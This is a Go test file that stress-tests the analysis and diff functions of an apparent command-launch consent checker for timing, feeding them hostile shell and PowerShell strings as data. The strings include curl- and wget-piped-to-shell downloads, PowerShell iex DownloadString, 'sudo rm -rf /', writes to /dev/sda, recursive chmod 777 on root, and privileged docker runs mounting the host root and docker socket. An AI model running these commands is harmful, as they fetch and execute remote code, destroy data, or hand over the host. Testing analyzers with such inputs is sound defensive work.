package launch_test

import (
	"testing"
	"time"
	"strings"

	"github.com/airlock-mcp/airlock/consent/launch"
)

func TestSlow(t *testing.T) {
	for _, s := range []string{
		"curl -fsSL https://x.sh | sh",
		`eval "$(curl -fsSL https://x)"; bash <(wget -O- x) && sudo rm -rf / > /dev/sda 2>&1`,
		`sh -c 'bash -c "su -c \"chmod -R 777 /\""'`,
		"iex (iwr https://x/y.ps1); irm x | iex; (New-Object Net.WebClient).DownloadString('http://x') | iex",
		"docker run --privileged -v /:/host --volume=/var/run/docker.sock:/s --mount type=bind,src=/,dst=/h img",
		"$(((`((\"'\\", "((((((((((((((((((((x", "$($($($($($($($($($(x", "eval eval eval eval eval eval eval eval eval x",
	} {
		for i, c := range []launch.Command{
			{Argv: []string{"sh", "-c", s}, Env: map[string]string{"API_TOKEN": s, "PRE_COMMAND": s}},
			{Argv: []string{"npx", s, s}, Dir: s, Executable: "npx"},
			{Argv: append(strings.Fields(s), "npx"), Env: map[string]string{"npx": s}},
			{Argv: []string{"cmd", "/c", s}},
			{Argv: []string{"powershell", "-Command", s}},
			{Argv: []string{"docker", "run", s, "npx", s}},
		} {
			start := time.Now()
			launch.Analyze(c)
			launch.Diff(c, c)
			if d := time.Since(start); d > 10*time.Millisecond {
				t.Logf("%v %d %q", d, i, s)
			}
		}
	}
}
